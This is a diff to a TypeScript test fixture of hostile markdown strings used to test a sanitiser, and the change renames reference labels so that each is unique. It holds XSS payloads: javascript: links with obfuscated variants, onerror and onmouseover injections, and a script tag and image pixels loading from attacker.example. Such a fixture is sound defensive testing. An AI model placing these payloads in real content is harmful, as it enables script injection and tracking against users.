@@ -1,6 +1,7 @@
 /**
  * Markdown that would run a script, load something or change the look of a page if it were not made harmless.
- * Each would open a dialog or send a request to attacker.example.
+ * Each would open a dialog or send a request to attacker.example. Their references have names of their own, so
+ * that any of them can stand in one note.
  */
 export const HOSTILE_MARKDOWN: readonly string[] = [
   // Addresses that run.
@@ -45,17 +46,17 @@ export const HOSTILE_MARKDOWN: readonly string[] = [
   '<data:text/html,alert>',
   // References.
   '[a]\n\n[a]: javascript:alert(1)',
-  '[a][b]\n\n[b]: javascript:alert(1) "title"',
-  '[a][b]\n\n[b]: <javascript:alert(1)>',
-  '[a][b]\n\n[b]:\n javascript:alert(1)',
-  '[a][b]\n\n[b]: java&Tab;script:alert(1)',
-  '[a][b]\n\n[b]: javascript&colon;alert(1)',
-  '![a][b]\n\n[b]: javascript:alert(1)',
-  '[a][b]\n\n[b]: https://attacker.example \'" onmouseover=alert(1) a="\'',
-  '[a][b]\n\n[b]: https://attacker.example ("><img src=x onerror=alert(1)>)',
+  '[a][b1]\n\n[b1]: javascript:alert(1) "title"',
+  '[a][b2]\n\n[b2]: <javascript:alert(1)>',
+  '[a][b3]\n\n[b3]:\n javascript:alert(1)',
+  '[a][b4]\n\n[b4]: java&Tab;script:alert(1)',
+  '[a][b5]\n\n[b5]: javascript&colon;alert(1)',
+  '![a][b6]\n\n[b6]: javascript:alert(1)',
+  '[a][b7]\n\n[b7]: https://attacker.example \'" onmouseover=alert(1) a="\'',
+  '[a][b8]\n\n[b8]: https://attacker.example ("><img src=x onerror=alert(1)>)',
   '[__proto__]\n\n[__proto__]: javascript:alert(1)',
   '[constructor]\n\n[toString]: javascript:alert(1)',
-  '[a]\n\n> [a]: javascript:alert(1)',
+  '[quoted]\n\n> [quoted]: javascript:alert(1)',
   '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
   // Autolinks.
   '<javascript:alert(1)>',
@@ -92,7 +93,7 @@ export const HOSTILE_MARKDOWN: readonly string[] = [
   '![<img src=x onerror=alert(1)>](x)',
   '[![a](https://attacker.example/1.gif)](javascript:alert(1))',
   '![![a](https://attacker.example/1.gif)](https://attacker.example/2.gif)',
-  '![a][b]\n\n[b]: https://attacker.example/pixel.gif',
+  '![a][b9]\n\n[b9]: https://attacker.example/pixel.gif',
   // Elements.
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>',
